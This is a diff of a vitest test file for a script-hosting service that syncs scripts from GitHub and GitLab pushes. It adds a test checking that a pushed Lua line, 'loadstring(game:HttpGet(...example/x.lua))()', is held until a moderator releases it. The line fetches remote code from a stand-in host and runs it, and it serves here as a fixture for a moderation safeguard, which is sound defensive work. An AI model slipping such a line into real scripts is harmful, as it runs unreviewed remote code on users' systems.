@@ -3,9 +3,10 @@ import type { ServerResponse } from 'node:http'
 import { setTimeout as sleep } from 'node:timers/promises'
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
 import { deleteDueData } from '#server/operations/retention/retention.ts'
-import { makeScript } from '#tests/support/factories.ts'
+import { makeMember, makeScript, signIn } from '#tests/support/factories.ts'
 import type { FakeForge } from '#tests/support/fake-forge.ts'
 import { FILE, RepositorySite } from '#tests/support/repository-site.ts'
+import { sendRelease } from '#tests/support/scripts.ts'
 
 const on = new RepositorySite()
 const { github, gitlab } = on
@@ -32,6 +33,17 @@ describe.each(['github', 'gitlab'] as const)('a push on %s', (kind) => {
       [on.scriptId],
     )
     expect(rows).toEqual([{ changelog: 'Brighter lamp' }])
+  })
+
+  test('of code that starts something serious says that its version is held, until it is current', async () => {
+    const { url, secret } = await connectTo()
+    const commit = open().commit({ [FILE]: `loadstring(game:HttpGet("https://${kind}.example/x.lua"))()` })
+    await on.send(open().deliver(url, secret, open().push([commit], undefined)))
+    expect(await on.finish()).toMatchObject([{ state: 'published', version_number: 2, version_state: 'held' }])
+    expect(await on.codeOf()).toBe('return 1')
+    const moderator = await signIn(on.app.db, await makeMember(on.app.db, { is_moderator: true }))
+    expect((await sendRelease(on.app, moderator, on.scriptId, 2)).statusCode).toBe(200)
+    expect((await on.read()).syncs).toMatchObject([{ state: 'published', version_state: 'current' }])
   })
 
   test('of the code that is current adds no version', async () => {
